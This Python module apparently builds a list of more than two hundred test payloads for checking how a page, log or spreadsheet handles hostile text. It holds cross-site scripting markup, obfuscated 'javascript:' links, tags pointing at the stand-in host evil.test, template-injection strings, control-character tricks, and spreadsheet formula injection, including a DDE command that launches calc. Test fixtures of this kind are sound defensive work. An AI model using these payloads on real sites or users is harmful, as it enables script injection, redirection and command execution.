"""Payloads: texts that try to be more than text, in a page, a log line or a spreadsheet."""

from __future__ import annotations

_HANDLERS = ("onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onpointerenter", "onanimationstart")
_TAGS = (
    "img src=x",
    "svg",
    "body",
    "input autofocus",
    "details open",
    "video src=x",
    "iframe",
    "math",
    "a href=x",
)
_SCHEMES = (
    "javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", " javascript:", "\x01javascript:",
    "javascript&colon;", "&#106;avascript:", "vbscript:", "data:text/html,", "file:///", "//evil.test/",
    "blob:", "\u200bjavascript:", "view-source:javascript:",
)  # fmt: skip
_CODE = "window.hit=1"

_MARKUP = [f"<{tag} {handler}={_CODE}>" for tag in _TAGS for handler in _HANDLERS]
_LINKS = [
    shape.format(f"{scheme}{_CODE}")
    for scheme in _SCHEMES
    for shape in ("[click]({})", "<{}>", "![x]({})", "[x][r]\n\n[r]: {}", '<a href="{}">x</a>')
]
_WHOLE = [
    "<script>window.hit=1</script>", "</textarea><script>window.hit=1</script>",
    "<!--<script>window.hit=1</script>-->",
    "<style>@import 'http://evil.test/x.css';</style>", "<link rel=stylesheet href=http://evil.test/x>",
    "<meta http-equiv=refresh content='0;url=http://evil.test/'>", "<base href=http://evil.test/>",
    "<form action=http://evil.test/><button>x</button></form>", "<object data=http://evil.test/x></object>",
    "<template><script>window.hit=1</script></template>", "<svg><use href=http://evil.test/x#y></svg>",
    "<noscript><p title='</noscript><img src=x onerror=window.hit=1>'>",
    "<math><mtext><img src=x onerror=window.hit=1>",
    "```html\n<script>window.hit=1</script>\n```", "`<img src=x onerror=window.hit=1>`",
    "$\\href{javascript:window.hit=1}{x}$", "$$\\html{<img src=x onerror=window.hit=1>}$$",
    "| <img src=x onerror=window.hit=1> | b |\n|---|---|\n| [x](javascript:window.hit=1) | c |",
    "- [ ] <img src=x onerror=window.hit=1>", "> " * 60 + "deep", "[" * 200 + "x" + "](y)" * 200, "*" * 500,
    "{{constructor.constructor('window.hit=1')()}}", "${window.hit=1}", "#{window.hit=1}",
]  # fmt: skip
_SIGNS = [
    "\u202eevil\u202c", "a\u2066b\u2069c", "z\u200be\u200cr\u200do", "Z" + "\u0335\u0321\u0342" * 40,
    "\ufeffbom",
    "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "two\r\nlines", "nul\x00nul", "bell\x07", "\x7fdel",
    "e\u0301 e",
    "\U0001f469\u200d\U0001f469\u200d\U0001f467", "नमस्ते दुनिया", "\u2028line\u2029paragraph", "\x85next",
]  # fmt: skip
_CELLS = [
    start + formula
    for start in ("=", "+", "-", "@", "\t=", "\r=", "\x00=", "\n=", "＝", "＋", "－", "＠")
    for formula in ("1+1", 'HYPERLINK("http://evil.test","x")', "cmd|' /C calc'!A0")
]

#: More than two hundred, none twice.
PAYLOADS: tuple[str, ...] = tuple(dict.fromkeys(_MARKUP + _LINKS + _WHOLE + _SIGNS + _CELLS))
